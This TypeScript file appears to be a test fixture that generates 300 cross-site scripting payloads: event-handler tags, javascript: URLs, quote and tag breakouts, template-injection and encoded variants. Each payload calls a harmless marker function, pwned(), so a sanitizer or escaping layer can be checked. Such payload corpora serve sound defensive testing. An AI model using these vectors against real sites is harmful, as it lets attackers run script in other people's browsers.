/**
 * 300 texts that run in a page which puts what people wrote into its HTML. Each calls `pwned()` when it runs; short ones fit into a name.
 */
const RUNS = ['pwned()', 'pwned`1`', 'self[`pwned`]()', 'top.pwned()', '(0,pwned)()'] as const
const TAGS = [
  ['<script>', '</script>'], ['<img src=x onerror="', '">'], ['<svg onload="', '">'], ['<body onload="', '">'], ['<iframe srcdoc="<script>parent.', '</script>">'], ['<details open ontoggle="', '">'],
  ['<video><source onerror="', '">'], ['<audio src=x onerror="', '">'], ['<input autofocus onfocus="', '">'], ['<a href="javascript:', '" autofocus>x</a>'], ['<form action="javascript:', '"><button>x'],
  ['<math><mi xlink:href="javascript:', '">x'], ['<object data="javascript:', '">'], ['<embed src="javascript:', '">'], ['<marquee onstart="', '">'], ['<select autofocus onfocus="', '">'],
  ['<textarea autofocus onfocus="', '">'], ['<style onload="', '"></style>'], ['<link rel=stylesheet href=x onerror="', '">'], ['<svg><animate onbegin="', '" attributeName=x dur=1s>'],
] as const
const BEFORE = ['', '">', '\'>', '</textarea>', '</title>', '-->', '</script>', ']]>', '`>', '\u2028'] as const
const ALONE = [
  '{{constructor.constructor("pwned()")()}}', '${pwned()}', '#{pwned()}', '<%= pwned() %>', '[x](javascript:pwned())', 'javascript:pwned()', 'data:text/html,<script>pwned()</script>', '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;', '\\u003cscript\\u003epwned()\\u003c/script\\u003e', '%3Cscript%3Epwned()%3C/script%3E', '＜script＞pwned()＜/script＞', '<scr<script>ipt>pwned()</script>', '<ScRiPt>pwned()</sCrIpT>',
  '<svg/onload=pwned()>', '<img src=x onerror=pwned()>', '"onmouseover=pwned()//', '\'onfocus=pwned() autofocus=\'', '<b onclick=pwned()>李某</b>', '__proto__', 'constructor', '<base href=//x>', '<meta http-equiv=refresh content=0>',
] as const

export const XSS_PAYLOADS: readonly string[] = made()

function made(): readonly string[] {
  const all = new Set<string>(ALONE)
  for (let i = 0; all.size < 300; i += 1) {
    const [open, close] = TAGS[i % TAGS.length] ?? ['', '']
    all.add(`${BEFORE[Math.floor(i / TAGS.length) % BEFORE.length]}${open}${RUNS[(i + Math.floor(i / (TAGS.length * BEFORE.length))) % RUNS.length]}${close}`)
    if (i > 2_000) throw new Error('the parts do not give 300')
  }
  return [...all].slice(0, 300)
}
